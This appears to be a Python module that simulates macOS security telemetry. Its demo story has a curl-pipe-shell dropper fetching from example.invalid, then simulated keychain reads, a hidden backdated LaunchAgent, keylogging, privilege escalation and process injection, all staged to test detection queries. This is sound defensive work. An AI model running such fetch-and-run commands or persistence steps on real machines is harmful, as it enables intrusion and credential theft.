"""What happens on the simulated Mac: the ``demo`` story, and what every scenario shares
(the user, her shell's environment, background churn).

A scenario is a generator over a :class:`~osq_esf.corpus.world.Mac`; it yields now
and then so the driver can stream the messages out (the others: :mod:`.bench`).  Names a demo query can rely on
are the module constants below (``DEMO_*``); osq_esf/data/README.md tells the story
with the pids it produces.
"""

from __future__ import annotations

from typing import Iterator

from osq_esf.corpus import kernel as k
from osq_esf.corpus import userspace as u
from osq_esf.corpus.userspace import REPORTERS
from osq_esf.corpus.world import (
    FREAD, FWRITE, GID_STAFF, GID_TTY, GID_WHEEL, O_CLOEXEC, O_CREAT, O_TRUNC,
    PROX_FDTYPE_PIPE, PROX_FDTYPE_VNODE, TMPDIR, Mac, Proc,
)

HOME = "/Users/alice"
ALICE, ALICE_ASID, TERMINAL_ASID = 501, 100008, 100011
GUI_ASID = ALICE_ASID
DYLD_CACHE = "/System/Volumes/Preboot/Cryptexes/OS/System/Library/dyld/dyld_shared_cache_arm64e"
METADATA = "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/"
SAFARI = "/System/Volumes/Preboot/Cryptexes/App/System/Applications/Safari.app/Contents/MacOS/Safari"
WEBKIT_XPC = ("/System/Volumes/Preboot/Cryptexes/OS/System/Library/Frameworks/WebKit.framework/Versions/A/"
              "XPCServices/{0}.xpc/Contents/MacOS/{0}")
TERMINAL = "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal"

# What the demo's detection queries can rely on.
DEMO_PAYLOAD = "/private/tmp/.sysupdate"  # the unsigned binary curl drops and sh runs
DEMO_PAYLOAD_ARG = "/tmp/.sysupdate"  # how the script names it (the /tmp symlink)
DEMO_PAYLOAD_SIGNING_ID = "sysupdate"
DEMO_SCRIPT_URL = "https://example.invalid/x.sh"
DEMO_PAYLOAD_URL = "https://example.invalid/payload"
DEMO_KEYCHAIN = f"{HOME}/Library/Keychains/login.keychain-db"
DEMO_LAUNCH_AGENT = f"{HOME}/Library/LaunchAgents/com.apple.sysupdate.plist"
DEMO_KEYLOG = "/private/tmp/.sysupdate.log"
DEMO_TTY = "/dev/ttys000"
DEMO_SECRETS = ("--password=hunter2",
                "AWS_SECRET_ACCESS_KEY=EXAMPLEonlyNotARealSecret0000000000000000",
                "GITHUB_TOKEN=ghp_example_not_a_real_token_000000000000")
DEMO_NOISY = {  # process path -> what it churns
    METADATA + "mds_stores": "/private/var/db/Spotlight-V100/",
    METADATA + "mds": "/private/var/db/Spotlight-V100/",
    "/usr/sbin/cfprefsd": f"{HOME}/Library/Preferences/ and /Library/Preferences/",
    "/usr/libexec/logd": "/private/var/db/diagnostics/ and /private/var/db/uuidtext/",
    "/usr/libexec/runningboardd": "/private/var/db/RunningBoard/",
    "/System/Library/CoreServices/Spotlight.app/Contents/MacOS/Spotlight": f"{HOME}/Library/Caches/com.apple.Spotlight/",
}
# launchd job label -> executable: every one is started launchd -> xpcproxy -> job.
DEMO_DAEMONS = (
    ("com.apple.logd", "/usr/libexec/logd", "com.apple.logd", None),
    ("com.apple.cfprefsd.xpc.daemon", "/usr/sbin/cfprefsd", "com.apple.cfprefsd", ["/usr/sbin/cfprefsd", "daemon"]),
    ("com.apple.runningboardd", "/usr/libexec/runningboardd", "com.apple.runningboardd", None),
    ("com.apple.fseventsd", "/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/"
     "FSEvents.framework/Versions/A/Support/fseventsd", "com.apple.fseventsd", None),
    ("com.apple.securityd", "/usr/sbin/securityd", "com.apple.securityd", ["/usr/sbin/securityd", "-i"]),
    REPORTERS["opendirectoryd"][:3] + (None,),
    ("com.apple.trustd", "/usr/libexec/trustd", "com.apple.trustd", None),
    ("com.apple.metadata.mds", METADATA + "mds", "com.apple.mds", None),
    ("com.apple.metadata.mds_stores", METADATA + "mds_stores", "com.apple.mds_stores", None),
    ("com.apple.WindowServer", "/System/Library/PrivateFrameworks/SkyLight.framework/Versions/A/Resources/WindowServer",
     "com.apple.WindowServer", ["/System/Library/PrivateFrameworks/SkyLight.framework/Resources/WindowServer", "-daemon"]),
    REPORTERS["loginwindow"][:3] + (None,),
    # The daemons that report the security events below, and the one that mounts disks.
    *(REPORTERS[name][:3] + (None,) for name in ("backgroundtaskmanagementd", "tccd", "syspolicyd", "authd",
                                                 "coreauthd")),
    ("com.apple.diskarbitrationd", "/usr/libexec/diskarbitrationd", "com.apple.diskarbitrationd", None),
)
DEMO_AGENTS = (
    ("com.apple.cfprefsd.xpc.agent", "/usr/sbin/cfprefsd", "com.apple.cfprefsd", ["/usr/sbin/cfprefsd", "agent"]),
    ("com.apple.Dock.agent", "/System/Library/CoreServices/Dock.app/Contents/MacOS/Dock", "com.apple.dock", None),
    ("com.apple.Finder", "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "com.apple.finder", None),
    ("com.apple.Spotlight", "/System/Library/CoreServices/Spotlight.app/Contents/MacOS/Spotlight", "com.apple.Spotlight", None),
    ("com.apple.mdworker.shared.0A000000-0000-0000-0000-000000000000", METADATA + "mdworker_shared",
     "com.apple.mdworker_shared", [METADATA + "mdworker_shared", "-s", "mdworker", "-c", "MDSImporterWorker",
                                   "-m", "com.apple.mdworker.shared"]),
    REPORTERS["sharingd"][:3] + (None,),
)
DEMO_SAFARI_LABEL = "application.com.apple.Safari.2741585.2741591"
DEMO_TERMINAL_LABEL = "application.com.apple.Terminal.2741601.2741608"
DEMO_NETWORKING_LABEL = "com.apple.WebKit.Networking"
DEMO_WEBCONTENT_LABEL = "com.apple.WebKit.WebContent"
# The security acts, in story order (osq_esf/data/README.md).
DEMO_GRAPHICAL_SESSION = 257  # alice's loginwindow session (lw_session_*, screensharing)
DEMO_PROFILE = "com.example.invalid.wifi"  # the configuration profile MDM installs at login
DEMO_OLD_PROFILE = "com.example.invalid.vpn-legacy"  # and the one it removes
DEMO_DMG = f"{HOME}/Downloads/ExampleTool.dmg"  # downloaded by Safari (quarantined), then mounted
DEMO_DMG_VOLUME = "/Volumes/ExampleTool"
DEMO_GATEKEEPER_OVERRIDE = f"{DEMO_DMG_VOLUME}/ExampleTool.app/Contents/MacOS/ExampleTool"  # "Open Anyway"
DEMO_LAUNCH_AGENT_URL = "file://" + DEMO_LAUNCH_AGENT  # BTM's item: the payload is its instigator
DEMO_STAGED_AGENT = "/private/tmp/com.apple.sysupdate.helper.plist"  # the payload writes it here...
DEMO_RENAMED_AGENT = f"{HOME}/Library/LaunchAgents/com.apple.sysupdate.helper.plist"  # ...and mv moves it
DEMO_RENAMED_AGENT_URL = "file://" + DEMO_RENAMED_AGENT  # BTM's item: mv had exited, instigator null
DEMO_SOCKET = "/private/tmp/.sysupdate.sock"  # the adopted payload listens, its root helper connects
DEMO_TCC_SERVICE = "kTCCServiceScreenCapture"  # granted to DEMO_PAYLOAD (by path) in System Settings
DEMO_SYSTEM_SETTINGS = "/System/Applications/System Settings.app/Contents/MacOS/System Settings"
DEMO_AUTHORIZATION_RIGHT = "system.privilege.admin"  # the payload's petition, granted
DEMO_HIDDEN_ADMIN = "_sysupdate"  # the hidden admin account its root helper creates
DEMO_INJECTOR_TARGET = DEMO_WEBCONTENT_LABEL  # get_task + remote_thread_create into the first WebContent
DEMO_IT_USER, DEMO_IT_UID = "ituser", 502
DEMO_SSH_FROM = "192.0.2.10"  # ituser's SSH and Screen Sharing (TEST-NET-1, RFC 5737)
DEMO_SSH_GUESSING = "198.51.100.23"  # failed SSH logins (TEST-NET-2)
DEMO_MALWARE = "MACOS.SYSUPDATE.EXAMPLE"  # XProtect's (made-up) name for the payload
# Every event type the story shows at least once (the detection-relevant families).
DEMO_TYPES = (
    "exec", "fork", "exit", "open", "write", "close", "create", "rename", "unlink", "mmap", "mprotect", "iokit_open",
    "signal", "setmode", "setowner", "setflags", "utimes", "setextattr", "deleteextattr", "mount", "unmount",
    "uipc_bind", "uipc_connect", "xpc_connect", "get_task", "get_task_read", "get_task_inspect", "get_task_name",
    "trace", "remote_thread_create", "proc_suspend_resume", "cs_invalidated", "setuid",
    "btm_launch_item_add", "btm_launch_item_remove", "tcc_modify", "gatekeeper_user_override",
    "xp_malware_detected", "xp_malware_remediated", "authentication", "authorization_petition",
    "authorization_judgement", "sudo", "su", "login_login", "login_logout", "lw_session_login", "lw_session_logout",
    "lw_session_lock", "lw_session_unlock", "openssh_login", "openssh_logout", "screensharing_attach",
    "screensharing_detach", "profile_add", "profile_remove", "od_create_user", "od_modify_password", "od_group_add",
    "od_attribute_set", "od_enable_user", "od_disable_user", "od_create_group", "od_group_set",
    "od_attribute_value_add", "od_attribute_value_remove", "od_delete_group", "od_group_remove", "od_delete_user",
)

SHELL_PATH = ("/opt/homebrew/bin:/opt/homebrew/sbin:/Users/alice/.pyenv/shims:/Users/alice/.cargo/bin:"
              "/Users/alice/go/bin:/Users/alice/.nvm/versions/node/v22.9.0/bin:/usr/local/bin:/System/Cryptexes/App/usr/bin:"
              "/usr/bin:/bin:/usr/sbin:/sbin:/var/run/com.apple.security.cryptexd/codex.system/bootstrap/usr/local/bin:"
              "/var/run/com.apple.security.cryptexd/codex.system/bootstrap/usr/bin:"
              "/var/run/com.apple.security.cryptexd/codex.system/bootstrap/usr/appleinternal/bin:"
              "/Library/Apple/usr/bin:/Applications/Wireshark.app/Contents/MacOS:/Users/alice/.local/bin")


def shell_env(tty: str = DEMO_TTY, pwd: str = HOME, extra: tuple = ()) -> tuple:
    """A login shell's environment in Terminal: ~45 variables, a long PATH."""
    return (
        "TERM_PROGRAM=Apple_Terminal", "SHELL=/bin/zsh", "TERM=xterm-256color", f"TMPDIR={TMPDIR}/",
        "TERM_PROGRAM_VERSION=455.1", "TERM_SESSION_ID=6F1C3E2A-8D4B-4F7A-9C21-0B5E7D3A9F11",
        "USER=alice", "SSH_AUTH_SOCK=/private/tmp/com.apple.launchd.Yx3Ae7Rm2K/Listeners",
        f"PATH={SHELL_PATH}", "__CFBundleIdentifier=com.apple.Terminal", f"PWD={pwd}", "LANG=en_US.UTF-8",
        "XPC_FLAGS=0x0", "XPC_SERVICE_NAME=0", "SHLVL=1", f"HOME={HOME}", "LOGNAME=alice", f"OLDPWD={HOME}",
        "HOMEBREW_PREFIX=/opt/homebrew", "HOMEBREW_CELLAR=/opt/homebrew/Cellar", "HOMEBREW_REPOSITORY=/opt/homebrew",
        "HOMEBREW_NO_ANALYTICS=1", "INFOPATH=/opt/homebrew/share/info:", "MANPATH=/opt/homebrew/share/man::",
        "PYENV_ROOT=/Users/alice/.pyenv", "PYENV_SHELL=zsh", "NVM_DIR=/Users/alice/.nvm",
        "NVM_CD_FLAGS=-q", "NVM_BIN=/Users/alice/.nvm/versions/node/v22.9.0/bin",
        "NVM_INC=/Users/alice/.nvm/versions/node/v22.9.0/include/node", "GOPATH=/Users/alice/go",
        "CARGO_HOME=/Users/alice/.cargo", "RUSTUP_HOME=/Users/alice/.rustup", "EDITOR=vim", "VISUAL=vim",
        "PAGER=less", "LESS=-R", "LSCOLORS=Gxfxcxdxbxegedabagacad", "CLICOLOR=1", "COMMAND_MODE=unix2003",
        "LC_CTYPE=en_US.UTF-8", "GPG_TTY=" + tty, "JAVA_HOME=/Library/Java/JavaVirtualMachines/temurin-21.jdk/Contents/Home",
        "DOCKER_HOST=unix:///Users/alice/.colima/default/docker.sock", "_=/usr/bin/env",
    ) + tuple(extra)


class Noise:
    """Background churn of the noisy daemons (and any actor added later): open, write, close."""

    def __init__(self, mac: Mac):
        self.mac = mac
        self.actors: list[tuple[Proc, float, callable]] = []

    def add(self, proc: Proc, weight: float, pick_path) -> None:
        self.actors.append((proc, weight, pick_path))

    def run(self, n: int) -> None:
        """About ``n`` events of churn."""
        mac, rng = self.mac, self.mac.rng
        live = [a for a in self.actors if a[0].alive]
        if not live:
            return
        weights = [w for _, w, _ in live]
        target = mac.emitted + n
        while mac.emitted < target:
            proc, _, pick = rng.choices(live, weights)[0]
            path, writes = pick(rng)
            if writes:
                mac.open(proc, path, FWRITE | (O_CREAT if rng.random() < 0.3 else 0) | O_CLOEXEC)
                for _ in range(writes):
                    mac.write(proc, path, rng.choice((512, 4096, 16384, 65536)))
                mac.close(proc, path, modified=True)
            else:
                mac.open(proc, path, FREAD | O_CLOEXEC)
                mac.close(proc, path)


def _pool_picker(paths: list[str], write_share: float, max_writes: int = 3):
    def pick(rng):
        path = paths[min(int(rng.paretovariate(1.2)) - 1, len(paths) - 1)]  # a few hot files, a long tail
        return path, (rng.randint(1, max_writes) if rng.random() < write_share else 0)
    return pick


def hex_id(rng, n: int) -> str:
    return "%0*X" % (n, rng.getrandbits(4 * n))


def uuid_of(rng) -> str:
    h = hex_id(rng, 32)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def _after_exec(mac: Mac, p: Proc) -> None:
    """dyld maps the shared cache into every new image (the dyld-cache mute's target)."""
    mac.mmap(p, DYLD_CACHE, protection=5, max_protection=5, flags=0x11)


# -- demo ----------------------------------------------------------------------------------


def demo(mac: Mac, events: int) -> Iterator[None]:
    """Boot, a desktop session, Safari and a disk image, a Terminal where a curl|sh dropper
    persists, escalates and injects, an IT admin's visit, XProtect's catch, the clean-up."""
    rng = mac.rng
    noise = Noise(mac)
    story_estimate = 720
    budget = max(0, events - story_estimate)
    share = iter((0.07, 0.08, 0.09, 0.08, 0.09, 0.08, 0.08, 0.08, 0.07, 0.07))
    session: list[Proc] = []  # alice's GUI session: it ends when she logs out

    def churn() -> None:
        noise.run(int(budget * next(share, 0.0)))

    # Boot: launchd (pid 1) starts the daemons through xpcproxy.
    mac.next_pid, mac.next_pidversion = 78, 120  # the kernel and launchd's first moments took the rest
    procs: dict[str, Proc] = {}
    mac.sleep(2.5)
    for label, path, sid, args in DEMO_DAEMONS:
        uid = 88 if "WindowServer" in label else 0
        p = mac.launch_job(label, mac.image(path, sid), args, uid=uid, gid=88 if uid else GID_WHEEL)
        p.threads += [mac.tid() for _ in range(rng.randint(2, 6))]
        _after_exec(mac, p)
        procs[label] = p
        mac.sleep(rng.uniform(0.05, 0.6))
    yield
    spotlight_store = f"/private/var/db/Spotlight-V100/BootVolume/Store-V2/{uuid_of(rng)}/"
    mds_paths = [spotlight_store + n for n in (
        "0.indexHead", "0.indexIds", "0.indexBigDates", "0.indexGroups", "0.indexPositions", "0.indexPostings",
        "0.indexTermIds", "0.indexUpdates", "0.indexDirectory", "0.shadowIndexHead", "live.0.indexHead",
        "live.0.indexPostings", "live.0.indexIds", "store.db", ".store.db", "journalAttr.1", "journalAttr.2",
        "tmp.spotlight.state", "psid.db", "reverseDirectoryStore", "dbStr-1.map.data", "dbStr-2.map.data")]
    noise.add(procs["com.apple.metadata.mds_stores"], 30, _pool_picker(mds_paths, 0.6, 4))
    noise.add(procs["com.apple.metadata.mds"], 8, _pool_picker(mds_paths[:8], 0.3))
    mds_stores = procs["com.apple.metadata.mds_stores"]  # maps an index shared and writable
    mac.open(mds_stores, mds_paths[0], FREAD | FWRITE)
    mac.mmap(mds_stores, mds_paths[0], protection=3, max_protection=7, flags=0x1)
    mac.close(mds_stores, mds_paths[0], modified=True, mapped_writable=True)
    tracev3 = [f"/private/var/db/diagnostics/Persist/{n:016X}.tracev3" for n in range(0x12A, 0x131)]
    uuidtext = [f"/private/var/db/uuidtext/{hex_id(rng, 2)}/{hex_id(rng, 30)}" for _ in range(40)]
    noise.add(procs["com.apple.logd"], 18, _pool_picker(
        tracev3 + ["/private/var/db/diagnostics/Special/0000000000000043.tracev3",
                   "/private/var/db/diagnostics/HighVolume/000000000000001e.tracev3"] + uuidtext, 0.7))
    prefs = ["/Library/Preferences/com.apple.loginwindow.plist", "/Library/Preferences/.GlobalPreferences.plist",
             "/Library/Preferences/SystemConfiguration/preferences.plist", "/Library/Preferences/com.apple.security.plist",
             "/private/var/root/Library/Preferences/.GlobalPreferences.plist"]
    noise.add(procs["com.apple.cfprefsd.xpc.daemon"], 8, _pool_picker(prefs, 0.15))
    noise.add(procs["com.apple.runningboardd"], 6, _pool_picker(
        ["/private/var/db/RunningBoard/assertions.plist", "/private/var/db/RunningBoard/processState.plist",
         "/private/var/db/RunningBoard/jetsam.plist"], 0.5))
    churn()
    yield

    # Login at the console (opendirectoryd checks the password for loginwindow), then alice's agents.
    mac.sleep(6)
    mac.authentication("od", True, _od_user("alice"), instigator=procs["com.apple.loginwindow"])
    mac.lw_session("login", "alice", DEMO_GRAPHICAL_SESSION)
    for label, path, sid, args in DEMO_AGENTS:
        p = mac.launch_job(label, mac.image(path, sid), args, uid=ALICE, gid=GID_STAFF, asid=ALICE_ASID)
        _after_exec(mac, p)
        procs[label] = p
        session.append(p)
        mac.sleep(rng.uniform(0.1, 0.8))
    _login_housekeeping(mac, procs)
    user_prefs = [f"{HOME}/Library/Preferences/{n}.plist" for n in (
        ".GlobalPreferences", "com.apple.dock", "com.apple.finder", "com.apple.Spotlight", "com.apple.Terminal",
        "com.apple.Safari", "com.apple.HIToolbox", "com.apple.LaunchServices/com.apple.launchservices.secure",
        "com.apple.symbolichotkeys", "com.apple.universalaccess", "com.apple.WindowManager", "pbs",
        "ContextStoreAgent", "com.apple.controlcenter", "com.apple.AppleMultitouchTrackpad")]
    noise.add(procs["com.apple.cfprefsd.xpc.agent"], 16, _pool_picker(user_prefs, 0.35))
    spot_cache = [f"{HOME}/Library/Caches/com.apple.Spotlight/{n}" for n in (
        "ModelCache.db", "ModelCache.db-wal", "ModelCache.db-shm", "SpotlightKnowledgeEvents/index.V2/journals/4/journal.5",
        "SpotlightKnowledgeEvents/index.V2/journals/4/journal.6", "com.apple.spotlight.app.plist",
        "fsCachedData/" + uuid_of(rng), "fsCachedData/" + uuid_of(rng))]
    noise.add(procs["com.apple.Spotlight"], 12, _pool_picker(spot_cache, 0.5))
    docs = [f"{HOME}/Documents/{n}" for n in ("Quarterly plan.key", "notes.txt", "Résumé 2026.pdf", "budget.numbers",
                                               "会議メモ.md", "taxes/2025/1099-INT.pdf", "ideas.rtf")]
    noise.add(procs["com.apple.mdworker.shared.0A000000-0000-0000-0000-000000000000"], 6, _pool_picker(docs, 0.0))
    churn()
    yield

    # Safari and its WebKit XPC services: the services' responsible process is Safari.
    mac.sleep(20)
    safari = mac.launch_job(DEMO_SAFARI_LABEL, mac.image(SAFARI, "com.apple.Safari"), [SAFARI], uid=ALICE,
                            gid=GID_STAFF, asid=ALICE_ASID, env=["__CFBundleIdentifier=com.apple.Safari"])
    safari.threads += [mac.tid() for _ in range(5)]
    _after_exec(mac, safari)
    networking = mac.launch_job(
        DEMO_NETWORKING_LABEL, mac.image(WEBKIT_XPC.format(DEMO_NETWORKING_LABEL), DEMO_NETWORKING_LABEL),
        uid=ALICE, gid=GID_STAFF, asid=ALICE_ASID, responsible=safari)
    _after_exec(mac, networking)
    contents = []
    for _ in range(2):
        wc = mac.launch_job(DEMO_WEBCONTENT_LABEL, mac.image(WEBKIT_XPC.format(DEMO_WEBCONTENT_LABEL),
                                                             DEMO_WEBCONTENT_LABEL),
                            uid=ALICE, gid=GID_STAFF, asid=ALICE_ASID, responsible=safari)
        _after_exec(mac, wc)
        contents.append(wc)
    for wc in contents:  # JIT: pages flip to executable
        for _ in range(3):
            mac.mprotect(wc, 0x3_0000_0000 + rng.getrandbits(28) * 0x4000, 0x4000 * rng.randint(1, 64), 5)
    web_cache = [f"{HOME}/Library/Caches/com.apple.Safari/{n}" for n in ("Cache.db", "Cache.db-wal", "Cache.db-shm")]
    web_cache += [f"{HOME}/Library/Caches/com.apple.WebKit.Networking/fsCachedData/{uuid_of(rng)}" for _ in range(24)]
    noise.add(networking, 10, _pool_picker(web_cache, 0.5))
    noise.add(safari, 4, _pool_picker([f"{HOME}/Library/Safari/{n}" for n in (
        "History.db", "History.db-wal", "Bookmarks.plist", "LastSession.plist", "CloudTabs.db")], 0.4))
    procs[DEMO_SAFARI_LABEL] = safari
    session += [safari, networking, *contents]
    _disk_image(mac, safari, procs, session)
    churn()
    yield

    # Terminal -> login -> zsh, on /dev/ttys000 in a new audit session.
    mac.sleep(25)
    terminal = mac.launch_job(DEMO_TERMINAL_LABEL, mac.image(TERMINAL, "com.apple.Terminal"), [TERMINAL],
                              uid=ALICE, gid=GID_STAFF, asid=ALICE_ASID, env=["__CFBundleIdentifier=com.apple.Terminal"])
    _after_exec(mac, terminal)
    tty = mac.file(DEMO_TTY, mode=0o20620, uid=ALICE, gid=GID_TTY, size=0, age_ns=0)
    tty.rdev = 0x10000000
    mac.open(terminal, "/dev/ptmx", FREAD | FWRITE)
    env0 = shell_env()
    login = mac.fork(terminal, new_session=True)
    login.tty = tty
    mac.exec(login, mac.image("/usr/bin/login", "com.apple.login"), ["login", "-pf", "alice"], env0, setuid=0)
    login.asid, login.auid = TERMINAL_ASID, ALICE
    login.dirty()
    _after_exec(mac, login)
    mac.open(login, "/private/etc/pam.d/login", FREAD)
    mac.close(login, "/private/etc/pam.d/login")
    mac.login("login", login, "alice", ALICE)
    zsh = mac.fork(login, new_session=False)
    zsh.user(ALICE, GID_STAFF)
    zsh.pgid = zsh.pid
    mac.exec(zsh, mac.image("/bin/zsh", "com.apple.zsh"), ["-zsh"], env0, dyld_exec_path="/bin/zsh",
             cwd=mac.dir(HOME), fds=tty_fds(10))
    _after_exec(mac, zsh)
    for rc in (f"{HOME}/.zshenv", "/private/etc/zshrc", "/private/etc/zshrc_Apple_Terminal", f"{HOME}/.zshrc",
               f"{HOME}/.zsh_history"):
        mac.open(zsh, rc, FREAD | O_CLOEXEC)
        mac.close(zsh, rc)
    zsh_tools(mac, zsh, env0)
    session.append(terminal)
    # The disk image's tool was fine: alice strips its quarantine flag for good.
    xattr = mac.spawn(zsh, mac.image("/usr/bin/xattr", "com.apple.xattr"),
                      ["xattr", "-d", "com.apple.quarantine", DEMO_DMG], last_command(env0, "/usr/bin/xattr"),
                      new_group=True)
    mac.deleteextattr(xattr, DEMO_DMG, "com.apple.quarantine")
    mac.exit(xattr, 0)
    churn()
    yield

    # The dropper: curl -fsSL https://example.invalid/x.sh | sh
    mac.sleep(14)
    pipe_id = 0x4E7F_1A2B_9C3D_5E6F & rng.getrandbits(63)
    curl_img = mac.image("/usr/bin/curl", "com.apple.curl")
    curl = mac.fork(zsh, new_group=True)
    mac.exec(curl, curl_img, ["curl", "-fsSL", DEMO_SCRIPT_URL], last_command(env0, "/usr/bin/curl"),
             fds=[(0, PROX_FDTYPE_VNODE, None), (1, PROX_FDTYPE_PIPE, pipe_id), (2, PROX_FDTYPE_VNODE, None)])
    _after_exec(mac, curl)
    sh = mac.fork(zsh, pgid=curl.pid)
    sh_img = mac.image("/bin/sh", "com.apple.sh")
    mac.exec(sh, sh_img, ["sh"], last_command(env0, "/bin/sh"),
             fds=[(0, PROX_FDTYPE_PIPE, pipe_id), (1, PROX_FDTYPE_VNODE, None), (2, PROX_FDTYPE_VNODE, None)])
    _after_exec(mac, sh)
    for cert in ("/private/etc/ssl/cert.pem", "/private/etc/ssl/openssl.cnf"):
        mac.open(curl, cert, FREAD)
        mac.close(curl, cert)
    mac.exit(curl, 0)
    env_sh = last_command(env0, "/bin/sh")
    # 1. download the payload
    dl = mac.spawn(sh, curl_img, ["curl", "-fsSL", "-o", DEMO_PAYLOAD_ARG, DEMO_PAYLOAD_URL], env_sh)
    _after_exec(mac, dl)
    mac.create(dl, DEMO_PAYLOAD, 0o644)
    mac.open(dl, DEMO_PAYLOAD, FWRITE | O_CREAT | O_TRUNC)
    for _ in range(6):
        mac.write(dl, DEMO_PAYLOAD, 16384)
    mac.close(dl, DEMO_PAYLOAD, modified=True)
    mac.exit(dl, 0)
    # 2. chmod +x
    chmod = mac.spawn(sh, mac.image("/bin/chmod", "com.apple.chmod"), ["chmod", "+x", DEMO_PAYLOAD_ARG], env_sh)
    mac.setmode(chmod, DEMO_PAYLOAD, 0o755)
    mac.exit(chmod, 0)
    # 3. run it: ad hoc signed, no team, not a platform binary
    payload_img = mac.image(DEMO_PAYLOAD, DEMO_PAYLOAD_SIGNING_ID, None, "adhoc")
    run = mac.spawn(sh, payload_img, [DEMO_PAYLOAD_ARG], env_sh, dyld_exec_path=DEMO_PAYLOAD_ARG)
    _after_exec(mac, run)
    mac.open(run, DEMO_KEYCHAIN, FREAD)
    mac.mmap(run, DEMO_KEYCHAIN, protection=1, max_protection=3, flags=0x1)
    mac.close(run, DEMO_KEYCHAIN)
    mac.dir(f"{HOME}/Library/LaunchAgents")
    mac.create(run, DEMO_LAUNCH_AGENT, 0o644)
    mac.open(run, DEMO_LAUNCH_AGENT, FWRITE | O_CREAT | O_TRUNC)
    mac.write(run, DEMO_LAUNCH_AGENT, 612)
    mac.close(run, DEMO_LAUNCH_AGENT, modified=True)
    #    Background Task Management learns of the agent; the payload is the instigator.
    mac.btm_launch_item("add", DEMO_LAUNCH_AGENT_URL, executable_path=DEMO_PAYLOAD, instigator=run)
    #    It backdates the plist and hides it (utimes, chflags hidden), and stages a second one.
    backdated = mac.now - 400 * 86_400 * 10**9
    mac.utimes(run, DEMO_LAUNCH_AGENT, backdated, backdated)
    mac.setflags(run, DEMO_LAUNCH_AGENT, k.UF_HIDDEN)
    mac.create(run, DEMO_STAGED_AGENT, 0o644, new_path=True)
    mac.open(run, DEMO_STAGED_AGENT, FWRITE | O_CREAT | O_TRUNC)
    mac.write(run, DEMO_STAGED_AGENT, 588)
    mac.close(run, DEMO_STAGED_AGENT, modified=True)
    mac.exit(run, 0)
    # 3b. mv /tmp/com.apple.sysupdate.helper.plist ~/Library/LaunchAgents/: a rename, nothing written there.
    mv = mac.spawn(sh, mac.image("/bin/mv", "com.apple.mv"),
                   ["mv", "/tmp/com.apple.sysupdate.helper.plist", f"{HOME}/Library/LaunchAgents/"], env_sh)
    mac.rename(mv, DEMO_STAGED_AGENT, DEMO_RENAMED_AGENT)
    mac.exit(mv, 0)
    mac.btm_launch_item("add", DEMO_RENAMED_AGENT_URL, executable_path=DEMO_PAYLOAD, instigator=mv)
    # 4. nohup it in the background; sh exits and launchd adopts the child
    bg = mac.spawn(sh, mac.image("/usr/bin/nohup", "com.apple.nohup"), ["nohup", DEMO_PAYLOAD_ARG, "--daemon"], env_sh)
    mac.exec(bg, payload_img, [DEMO_PAYLOAD_ARG, "--daemon"], env_sh, dyld_exec_path=DEMO_PAYLOAD_ARG)
    _after_exec(mac, bg)
    mac.exit(sh, 0)
    # The adopted child (ppid 1, original_ppid = sh) opens the keyboard and logs keys.
    mac.sleep(1.5)
    mac.iokit_open(bg, "IOHIDLibUserClient", 0, 0x1000_0a3b,
                   "IOService:/AppleARMPE/arm-io@10F00000/AppleT810xIO/mtp@D400000/AppleMTPHIDTransport/keyboard")
    mac.iokit_open(bg, "IOHIDLibUserClient", 0, 0x1000_0a41,
                   "IOService:/AppleARMPE/arm-io@10F00000/AppleT810xIO/mtp@D400000/AppleMTPHIDTransport/trackpad")
    mac.create(bg, DEMO_KEYLOG, 0o600)
    noise.add(bg, 2, lambda r: (DEMO_KEYLOG, 1))
    settings = _screen_recording_grant(mac, bg, session)
    _escalate(mac, bg, payload_img, safari, contents[0])
    churn()
    yield

    # A developer pastes credentials on a command line (redaction demo).
    mac.sleep(30)
    py_env = last_command(env0 + DEMO_SECRETS[1:], "/usr/bin/python3")
    py = mac.spawn(zsh, mac.image("/usr/bin/python3", "com.apple.python3"),
                   ["python3", "-c", "import sys; print(sys.argv[1:])", DEMO_SECRETS[0], "--user=alice"], py_env,
                   new_group=True)
    clt = ("/Library/Developer/CommandLineTools/Library/Frameworks/Python3.framework/Versions/3.9/Resources/"
           "Python.app/Contents/MacOS/Python")
    mac.exec(py, mac.image(clt, "com.apple.python3"),
             [clt, "-c", "import sys; print(sys.argv[1:])", DEMO_SECRETS[0], "--user=alice"], py_env)
    _after_exec(mac, py)
    mac.exit(py, 0)
    _sudo_and_su(mac, zsh, env0)
    churn()
    yield

    # runningboardd reclaims a background WebContent process.
    mac.sleep(12)
    victim = contents[-1]
    mac.proc_suspend_resume(procs["com.apple.runningboardd"], victim, k.SUSPEND)
    mac.sleep(3)
    mac.proc_suspend_resume(procs["com.apple.runningboardd"], victim, k.RESUME)
    mac.sleep(5)
    mac.signal(procs["com.apple.runningboardd"], victim, 9)
    mac.exit(victim, signal=9)
    # Safari's networking process talks to a device, as apps do.
    mac.iokit_open(networking, "AppleKeyStoreUserClient", 0, 0x1000_02c1, "IOService:/IOResources/AppleKeyStore")
    mac.iokit_open(procs["com.apple.WindowServer"], "IOSurfaceRootUserClient", 0, 0x1000_0311,
                   "IOService:/IOResources/IOSurfaceRoot")
    mac.iokit_open(procs["com.apple.WindowServer"], "AppleUpstreamUserClient", 0, 0x1000_0a12,
                   "IOService:/AppleARMPE/arm-io@10F00000/AppleT810xIO/dcp@A0000000/AppleDCP")
    churn()
    yield

    # An IT admin visits over SSH (after someone else's guessing) and Screen Sharing.
    mac.sleep(20)
    _it_visit(mac, rng)
    churn()
    yield

    # alice steps away: the screen locks; her Apple Watch unlocks it.
    mac.sleep(15)
    mac.lw_session("lock", "alice", DEMO_GRAPHICAL_SESSION)
    mac.sleep(90)
    mac.authentication("auto_unlock", True, {"username": "alice", "type": u.AUTO_UNLOCK_MACHINE})
    mac.lw_session("unlock", "alice", DEMO_GRAPHICAL_SESSION)
    churn()
    yield

    # XProtect catches the payload: detection, SIGKILL, deletion, remediation.
    mac.sleep(10)
    _xprotect(mac, rng, bg)
    # alice cleans up: the agents (BTM sees them go), the TCC grant, the hidden admin.
    mac.sleep(30)
    _clean_up(mac, zsh, env0, terminal)
    churn()
    yield

    # She closes Terminal (login reports the logout) and logs out of the session.
    mac.sleep(20)
    mac.exit(zsh, 0)
    mac.login("logout", login, "alice", ALICE)
    mac.exit(login, 0)
